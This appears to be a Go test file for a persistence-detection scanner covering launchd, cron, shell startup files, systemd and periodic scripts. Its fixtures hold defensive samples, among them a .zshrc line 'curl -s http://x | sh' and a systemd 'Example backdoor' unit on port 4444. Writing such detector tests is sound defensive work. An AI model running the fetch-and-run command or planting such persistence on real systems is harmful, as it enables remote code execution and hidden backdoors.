package collector_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tripwire/lookout/internal/collector"
	"github.com/tripwire/lookout/internal/item"
	"github.com/tripwire/lookout/internal/sysexec"
)

var fixedNow = time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)

func clock() time.Time { return fixedNow }

func writeFile(t *testing.T, path, content string, perm os.FileMode) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), perm))
}

func byID(items []item.PersistenceItem) map[string]item.PersistenceItem {
	m := make(map[string]item.PersistenceItem, len(items))
	for _, it := range items {
		m[it.Identifier] = it
	}
	return m
}

// ---------------------------------------------------------------------------
// Registry
// ---------------------------------------------------------------------------

type stubCollector struct{ cat item.Category }

func (s stubCollector) Category() item.Category { return s.cat }

func (s stubCollector) RequiresElevatedAccess() bool { return false }

func (s stubCollector) Scan(context.Context) ([]item.PersistenceItem, error) { return nil, nil }

func TestRegistry_RejectsDuplicateCategory(t *testing.T) {
	_, err := collector.NewRegistry(
		stubCollector{cat: item.CategoryCronJob},
		stubCollector{cat: item.CategoryCronJob},
	)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "already registered")
}

func TestRegistry_Select(t *testing.T) {
	r, err := collector.NewRegistry(
		stubCollector{cat: item.CategoryLaunchDaemon},
		stubCollector{cat: item.CategoryCronJob},
	)
	require.NoError(t, err)

	all, missing := r.Select(nil)
	assert.Len(t, all, 2)
	assert.Empty(t, missing)
	assert.Equal(t, []item.Category{item.CategoryCronJob, item.CategoryLaunchDaemon}, r.Categories())

	some, missing := r.Select([]item.Category{item.CategoryLaunchDaemon, item.CategoryLoginItem, item.CategoryLaunchDaemon})
	require.Len(t, some, 1)
	assert.Equal(t, item.CategoryLaunchDaemon, some[0].Category())
	assert.Equal(t, []item.Category{item.CategoryLoginItem}, missing)
}

func TestRegistry_WatchPaths(t *testing.T) {
	r, err := collector.NewRegistry(
		collector.NewScriptDir(item.CategoryPeriodicScript, []string{"/etc/periodic/daily"}, nil),
		stubCollector{cat: item.CategoryCronJob},
	)
	require.NoError(t, err)
	assert.Equal(t, []string{"/etc/periodic/daily"}, r.WatchPaths())
}

// ---------------------------------------------------------------------------
// Launchd
// ---------------------------------------------------------------------------

const agentPlist = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>Label</key>
	<string>com.example.updater</string>
	<key>ProgramArguments</key>
	<array>
		<string>%EXE%</string>
		<string>--check</string>
	</array>
	<key>RunAtLoad</key>
	<true/>
	<key>KeepAlive</key>
	<dict>
		<key>SuccessfulExit</key>
		<false/>
	</dict>
	<key>WorkingDirectory</key>
	<string>/var/empty</string>
</dict>
</plist>
`

const disabledPlist = `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0">
<dict>
	<key>Label</key>
	<string>com.example.disabled</string>
	<key>Program</key>
	<string>/usr/local/bin/disabled</string>
	<key>Disabled</key>
	<true/>
</dict>
</plist>
`

const infoPlist = `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0">
<dict>
	<key>CFBundleIdentifier</key>
	<string>com.example.Updater</string>
	<key>CFBundleShortVersionString</key>
	<string>2.3.1</string>
	<key>CFBundleName</key>
	<string>Updater</string>
</dict>
</plist>
`

func TestLaunchdCollector_Scan(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, "LaunchAgents")
	exe := filepath.Join(root, "Updater.app", "Contents", "MacOS", "updater")
	writeFile(t, exe, "bin", 0o755)
	writeFile(t, filepath.Join(root, "Updater.app", "Contents", "Info.plist"), infoPlist, 0o644)
	writeFile(t, filepath.Join(dir, "com.example.updater.plist"), strings.ReplaceAll(agentPlist, "%EXE%", exe), 0o644)
	writeFile(t, filepath.Join(dir, "com.example.disabled.plist"), disabledPlist, 0o644)
	writeFile(t, filepath.Join(dir, "README.txt"), "ignored", 0o644)

	runner := sysexec.RunnerFunc(func(_ context.Context, name string, args []string, _ []byte) ([]byte, error) {
		require.Equal(t, "launchctl", name)
		return []byte("PID\tStatus\tLabel\n123\t0\tcom.example.updater\n-\t0\tcom.apple.other\n"), nil
	})

	c := collector.NewLaunchd(item.CategoryLaunchAgent, []string{dir, filepath.Join(root, "missing")}, runner, clock)
	items, err := c.Scan(context.Background())
	require.NoError(t, err)
	require.Len(t, items, 2)

	got := byID(items)
	up := got["com.example.updater"]
	assert.Equal(t, item.CategoryLaunchAgent, up.Category)
	assert.Equal(t, exe, up.ExecutablePath)
	assert.Equal(t, []string{exe, "--check"}, up.ProgramArguments)
	assert.True(t, up.RunAtLoad)
	assert.True(t, up.KeepAlive, "conditional KeepAlive dict counts as keep-alive")
	assert.True(t, up.IsEnabled)
	assert.True(t, up.IsLoaded)
	assert.Equal(t, "/var/empty", up.WorkingDirectory)
	assert.Equal(t, "com.example.Updater", up.BundleIdentifier)
	assert.Equal(t, "2.3.1", up.Version)
	assert.Equal(t, "Updater", up.Name)
	assert.Equal(t, fixedNow, up.DiscoveredAt)
	assert.NotNil(t, up.PlistModifiedAt)
	assert.NotNil(t, up.BinaryModifiedAt)

	dis := got["com.example.disabled"]
	assert.False(t, dis.IsEnabled)
	assert.False(t, dis.IsLoaded)
	assert.Equal(t, "/usr/local/bin/disabled", dis.ExecutablePath)
	assert.Nil(t, dis.BinaryModifiedAt)
}

func TestLaunchdCollector_PartialResultsOnBadPlist(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "good.plist"), disabledPlist, 0o644)
	writeFile(t, filepath.Join(dir, "bad.plist"), "<plist><dict><key>", 0o644)

	items, err := collector.NewLaunchd(item.CategoryLaunchDaemon, []string{dir}, nil, clock).Scan(context.Background())
	require.Error(t, err)
	assert.Contains(t, err.Error(), "bad.plist")
	require.Len(t, items, 1)
	assert.Equal(t, "com.example.disabled", items[0].Identifier)
}

func TestLaunchdCollector_ShadowedLabel(t *testing.T) {
	user := t.TempDir()
	global := t.TempDir()
	writeFile(t, filepath.Join(user, "a.plist"), disabledPlist, 0o644)
	writeFile(t, filepath.Join(global, "b.plist"), disabledPlist, 0o644)

	items, err := collector.NewLaunchd(item.CategoryLaunchAgent, []string{user, global}, nil, clock).Scan(context.Background())
	require.NoError(t, err)
	require.Len(t, items, 1)
	assert.Equal(t, filepath.Join(user, "a.plist"), items[0].PlistPath)
}

func TestLaunchdCollector_LaunchctlFailureReported(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "a.plist"), disabledPlist, 0o644)
	runner := sysexec.RunnerFunc(func(context.Context, string, []string, []byte) ([]byte, error) {
		return nil, errors.New("no launchctl")
	})
	items, err := collector.NewLaunchd(item.CategoryLaunchAgent, []string{dir}, runner, clock).Scan(context.Background())
	require.Error(t, err)
	assert.Len(t, items, 1)
}

// ---------------------------------------------------------------------------
// Cron
// ---------------------------------------------------------------------------

func TestCronCollector_Scan(t *testing.T) {
	root := t.TempDir()
	system := filepath.Join(root, "crontab")
	writeFile(t, system, `# system table
SHELL=/bin/sh
PATH=/usr/bin:/bin
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
@reboot root /usr/local/bin/boot-task --now
`, 0o644)
	spool := filepath.Join(root, "spool")
	writeFile(t, filepath.Join(spool, "alice"), "*/5 * * * * /Users/alice/.bin/sync -q\n\n", 0o600)
	writeFile(t, filepath.Join(spool, ".hidden"), "* * * * * /tmp/x\n", 0o600)

	c := collector.NewCron([]collector.CronSource{
		{Path: system, System: true},
		{Path: spool},
		{Path: filepath.Join(root, "nope")},
	}, clock)
	items, err := c.Scan(context.Background())
	require.NoError(t, err)
	require.Len(t, items, 3)

	var reboot, alice item.PersistenceItem
	for _, it := range items {
		switch {
		case it.RunAtLoad:
			reboot = it
		case strings.HasPrefix(it.Name, "alice"):
			alice = it
		}
		assert.True(t, strings.HasPrefix(it.Identifier, it.PlistPath+":"))
	}
	assert.Equal(t, "/usr/local/bin/boot-task", reboot.ExecutablePath)
	assert.Equal(t, "root: @reboot", reboot.Name)
	assert.Equal(t, []string{"/Users/alice/.bin/sync", "-q"}, alice.ProgramArguments)
	assert.Equal(t, "alice: */5 * * * *", alice.Name)

	again, err := c.Scan(context.Background())
	require.NoError(t, err)
	assert.ElementsMatch(t, keys(items), keys(again), "identifiers are stable across scans")
}

func keys(items []item.PersistenceItem) []string {
	out := make([]string, 0, len(items))
	for _, it := range items {
		out = append(out, it.Identifier)
	}
	return out
}

// ---------------------------------------------------------------------------
// Shell startup
// ---------------------------------------------------------------------------

func TestShellStartupCollector_Scan(t *testing.T) {
	home := t.TempDir()
	rc := filepath.Join(home, ".zshrc")
	writeFile(t, rc, "# comment\nexport PATH=$HOME/bin:$PATH\n\ncurl -s http://x | sh\n", 0o644)

	c := collector.NewShellStartup([]string{rc, filepath.Join(home, ".bashrc")}, clock)
	items, err := c.Scan(context.Background())
	require.NoError(t, err)
	require.Len(t, items, 1)
	assert.Equal(t, rc, items[0].Identifier)
	assert.Equal(t, []string{"export PATH=$HOME/bin:$PATH", "curl -s http://x | sh"}, items[0].ProgramArguments)
	assert.Equal(t, []string{home}, c.WatchPaths())
}

// ---------------------------------------------------------------------------
// Systemd
// ---------------------------------------------------------------------------

const unitFile = `[Unit]
Description=Example backdoor
After=network.target

[Service]
ExecStart=-/opt/bd/run \
  --port 4444
WorkingDirectory=/opt/bd
Restart=always

[Install]
WantedBy=multi-user.target
`

func TestSystemdCollector_Scan(t *testing.T) {
	etc := t.TempDir()
	lib := t.TempDir()
	writeFile(t, filepath.Join(etc, "bd.service"), unitFile, 0o644)
	writeFile(t, filepath.Join(lib, "bd.service"), "[Service]\nExecStart=/shadowed\n", 0o644)
	writeFile(t, filepath.Join(lib, "idle.service"), "[Service]\nExecStart=/usr/bin/idle\n", 0o644)
	require.NoError(t, os.MkdirAll(filepath.Join(etc, "multi-user.target.wants"), 0o755))
	require.NoError(t, os.Symlink(filepath.Join(etc, "bd.service"), filepath.Join(etc, "multi-user.target.wants", "bd.service")))

	runner := sysexec.RunnerFunc(func(_ context.Context, name string, _ []string, _ []byte) ([]byte, error) {
		require.Equal(t, "systemctl", name)
		return []byte("bd.service loaded active running Example backdoor\nidle.service loaded inactive dead idle\n"), nil
	})

	items, err := collector.NewSystemd([]string{etc, lib}, runner, clock).Scan(context.Background())
	require.NoError(t, err)
	require.Len(t, items, 2)

	got := byID(items)
	bd := got["bd.service"]
	assert.Equal(t, "Example backdoor", bd.Name)
	assert.Equal(t, "/opt/bd/run", bd.ExecutablePath)
	assert.Equal(t, []string{"/opt/bd/run", "--port", "4444"}, bd.ProgramArguments)
	assert.Equal(t, "/opt/bd", bd.WorkingDirectory)
	assert.True(t, bd.IsEnabled)
	assert.True(t, bd.IsLoaded)
	assert.True(t, bd.RunAtLoad)
	assert.True(t, bd.KeepAlive)

	idle := got["idle.service"]
	assert.False(t, idle.IsEnabled)
	assert.False(t, idle.IsLoaded)
	assert.Equal(t, "idle.service", idle.Name)
}

// ---------------------------------------------------------------------------
// Script directories and defaults
// ---------------------------------------------------------------------------

func TestScriptDirCollector_Scan(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "100.clean"), "#!/bin/sh\n", 0o755)
	writeFile(t, filepath.Join(dir, "999.off"), "#!/bin/sh\n", 0o644)

	items, err := collector.NewScriptDir(item.CategoryPeriodicScript, []string{dir}, clock).Scan(context.Background())
	require.NoError(t, err)
	got := byID(items)
	require.Len(t, got, 2)
	assert.True(t, got[filepath.Join(dir, "100.clean")].IsEnabled)
	assert.False(t, got[filepath.Join(dir, "999.off")].IsEnabled)
}

func TestDefaults_PerOS(t *testing.T) {
	cats := func(cs []collector.Collector) []item.Category {
		var out []item.Category
		for _, c := range cs {
			out = append(out, c.Category())
		}
		return out
	}
	assert.ElementsMatch(t,
		[]item.Category{item.CategoryCronJob, item.CategoryShellStartup, item.CategoryLaunchAgent, item.CategoryLaunchDaemon, item.CategoryPeriodicScript},
		cats(collector.Defaults("darwin", "/Users/x", nil, nil)))
	assert.ElementsMatch(t,
		[]item.Category{item.CategoryCronJob, item.CategoryShellStartup, item.CategorySystemdUnit},
		cats(collector.Defaults("linux", "/home/x", nil, nil)))

	_, err := collector.NewRegistry(collector.Defaults("darwin", "/Users/x", nil, nil)...)
	assert.NoError(t, err)
}

func TestScan_HonoursCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := collector.NewShellStartup([]string{"/etc/profile"}, clock).Scan(ctx)
	assert.ErrorIs(t, err, context.Canceled)
}
